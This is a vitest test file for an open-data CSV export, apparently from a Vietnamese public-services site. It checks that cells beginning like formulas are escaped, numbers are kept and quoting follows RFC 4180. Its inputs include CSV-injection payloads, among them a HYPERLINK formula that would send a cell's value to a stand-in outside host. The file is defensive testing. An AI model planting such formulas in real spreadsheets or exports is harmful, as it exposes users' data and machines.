/**
 * The open-data CSV opened in a spreadsheet: a text that begins like a formula stays text (CSV
 * injection), numbers keep their sign, and quoting follows RFC 4180.
 */
import { describe, expect, it } from 'vitest'

import { toCsv } from '../../site/lib/csv'
import { proceduresCsv } from '../../site/lib/openData'
import { catalogueWithProcedure } from './helpers/catalogue'

const lines = (csv: string) =>
  csv
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n')

describe('open-data CSV', () => {
  it('writes a text that begins like a formula with an apostrophe first', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd', 'e', 'f'],
      [['=1+2', '+84 215', '-5', '@SUM(A1)', '\t=cmd', '\r=cmd']],
    )
    expect(lines(csv)[1]).toBe(`'=1+2,'+84 215,'-5,'@SUM(A1),'\t=cmd,"'\r=cmd"`)
  })

  it('leaves numbers, ordinary texts and empty cells as they are', () => {
    const csv = toCsv(['n', 'm', 't', 'u', 'v'], [[-3, 12.5, 'Miễn phí', null, 'a-b=c']])
    expect(lines(csv)[1]).toBe('-3,12.5,Miễn phí,,a-b=c')
  })

  it('quotes a cell holding a comma, a quote or a line break', () => {
    const csv = toCsv(['x'], [['Nộp "trực tiếp", hoặc\nqua bưu chính']])
    expect(csv).toBe('\uFEFFx\r\n"Nộp ""trực tiếp"", hoặc\nqua bưu chính"\r\n')
  })

  it('keeps a formula typed as a procedure name from running in the downloaded table', () => {
    const name = '=HYPERLINK("http://example.com/?"&A1,"Xem chi tiết")'
    const { catalogue, code } = catalogueWithProcedure((first) => ({ ...first, name }))
    const row = lines(proceduresCsv(catalogue, (path) => `https://example.gov.vn${path}`)).find(
      (line) => line.startsWith(`${code},`),
    )
    expect(row).toContain(`,"'=HYPERLINK(""http://example.com/?""&A1,""Xem chi tiết"")",`)
    expect(row).not.toMatch(/,"?=HYPERLINK/)
  })
})
